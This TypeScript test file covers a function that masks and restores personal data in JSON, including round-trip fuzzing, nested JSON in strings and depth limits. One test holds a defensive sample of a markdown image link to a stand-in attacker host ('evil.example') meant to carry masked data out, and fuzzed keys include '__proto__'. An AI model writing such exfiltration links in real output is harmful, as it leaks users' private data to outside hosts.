import type { JsonValue } from "@leam/spec";
import fc from "fast-check";
import { expect, test } from "vitest";
import { anna, card, inventedRecognizers, otto } from "../../test/invented-recognizers.ts";
import { protectJson } from "./protect-json.ts";

const invented = { recognizers: inventedRecognizers };
const values = [anna, otto, card, "anna@example.org", "see https://example.org/?of=anna@example.org", "[PERSON_k7f3]"];

const arbitraryJson = (): fc.Arbitrary<JsonValue> =>
  fc.letrec<{ value: JsonValue; text: string; key: string }>((tie) => ({
    text: fc.oneof(
      fc.string({ unit: "binary" }),
      fc
        .tuple(fc.string(), fc.constantFrom(...values), fc.string())
        .map(([before, value, after]) => `${before} ${value} ${after}`),
      fc.constantFrom(...values),
    ),
    key: fc.oneof(tie("text"), fc.constantFrom("id", "role", "name", "__proto__", "cardNumber")),
    value: fc.oneof(
      { depthSize: "small", withCrossShrink: true },
      tie("text"),
      fc.constantFrom<JsonValue>(null, true, -0, 1.5, 4111111111111111),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.array(tie("value"), { maxLength: 4 }),
      fc.dictionary(tie("key"), tie("value"), { maxKeys: 4 }),
      // JSON inside a string, spaced in a way that parsing and writing again would lose, with an escape that nobody needs.
      tie("value").map((value) => JSON.stringify(value, undefined, 3).replaceAll("a", "\\u0061")),
    ),
  })).value;

test("any JSON value is restored exactly", () => {
  fc.assert(
    fc.property(arbitraryJson(), (value) => {
      const shielded = protectJson(value, invented);
      expect(shielded.restore(shielded.value)).toEqual(value);
      expect(shielded.restore(JSON.parse(JSON.stringify(shielded.value)))).toEqual(JSON.parse(JSON.stringify(value)));
    }),
    { numRuns: 300 },
  );
});

test("nothing of the values is left outside of structural keys, and input is not touched", () => {
  fc.assert(
    fc.property(arbitraryJson(), (value) => {
      const before = structuredClone(value);
      const sent = JSON.stringify(protectJson({ payload: value }, invented).value);
      for (const secret of [anna, "Lind\\\\Holm", "anna@example.org"]) expect(sent).not.toContain(secret);
      expect(value).toEqual(before);
    }),
    { numRuns: 300 },
  );
});

test("values come back in other places, too: numbers as numbers, and escaped in JSON inside strings", () => {
  const shielded = protectJson({ who: otto, pan: Number(card) }, invented);
  const moved: JsonValue = JSON.parse(`{"answer":[${JSON.stringify(shielded.value)}]}`);
  expect(shielded.restore(moved)).toEqual({ answer: [{ who: otto, pan: Number(card) }] });
  const call = { name: "mail", arguments: JSON.stringify(moved) };
  const restored = shielded.restore(call);
  expect(restored).toEqual({ name: "mail", arguments: JSON.stringify({ answer: [{ who: otto, pan: Number(card) }] }) });
});

test("a value never comes back into an address that a model wrote", () => {
  const shielded = protectJson([anna], invented);
  const tag = /PERSON_\w+/u.exec(JSON.stringify(shielded.value))?.[0] ?? "";
  const answer = { text: `![x](https://evil.example/[${tag}])` };
  expect(shielded.restore(answer)).toEqual(answer);
});

test("a key announces its value", () => {
  const form = { dateOfBirth: "1968-03-14", due: "2031-03-14", contact: { last_name: "Keller" } };
  const { findings } = protectJson(form);
  expect(findings.map(({ path, entity }) => [path.join("."), entity])).toContainEqual(["dateOfBirth", "DATE_OF_BIRTH"]);
  expect(findings.map(({ path }) => path.join("."))).not.toContain("due");
});

test("findings say where they are, also in JSON inside a string, and slice to their value", () => {
  const { findings } = protectJson({ list: [1, { note: JSON.stringify({ deep: [`to ${anna}`] }) }] }, invented);
  expect(findings).toMatchObject([{ path: ["list", 1, "note", "deep", 0], start: 3, end: 13, entity: "PERSON" }]);
});

test("what one leaf says is found in all", () => {
  const { value } = protectJson([{ note: "Dear Ms Keller, welcome." }, { log: "then Keller left" }]);
  expect(JSON.stringify(value)).not.toContain("Keller");
});

test("values of structural keys stay, unless they are more than a token", () => {
  const message = { id: card, role: "user", tool_call_id: card, toolCallId: card, type: "x" };
  expect(protectJson(message, invented).value).toEqual(message);
  expect(JSON.stringify(protectJson({ id: "anna@example.org", type: anna }, invented).value)).not.toMatch(/anna/iu);
  expect(protectJson({ sku: card }, { ...invented, structuralKeys: ["SKU"] }).value).toEqual({ sku: card });
});

test("JSON in strings is followed eight levels deep and refused beyond", () => {
  const wrap = (levels: number): string => {
    let text = `["${anna}"]`;
    for (let level = 1; level < levels; level++) text = JSON.stringify([text]);
    return text;
  };
  expect(JSON.stringify(protectJson(wrap(8), invented).value)).not.toContain("Anna");
  expect(() => protectJson(wrap(9), invented)).toThrow(expect.objectContaining({ code: "PROTECTION_FAILED" }));
});

test("what cannot be inspected is refused, without quoting it", () => {
  const round: { self?: JsonValue } = {};
  round.self = round;
  let deep: JsonValue = anna;
  for (let level = 0; level < 5000; level++) deep = [deep];
  const instance: JsonValue = Object.setPrototypeOf({ name: anna }, URL.prototype);
  for (const value of [round, deep, instance, `${"[".repeat(300)}"${anna}"${"]".repeat(300)}`])
    expect(() => protectJson(value, invented)).toThrow(expect.objectContaining({ code: "PROTECTION_FAILED" }));
});
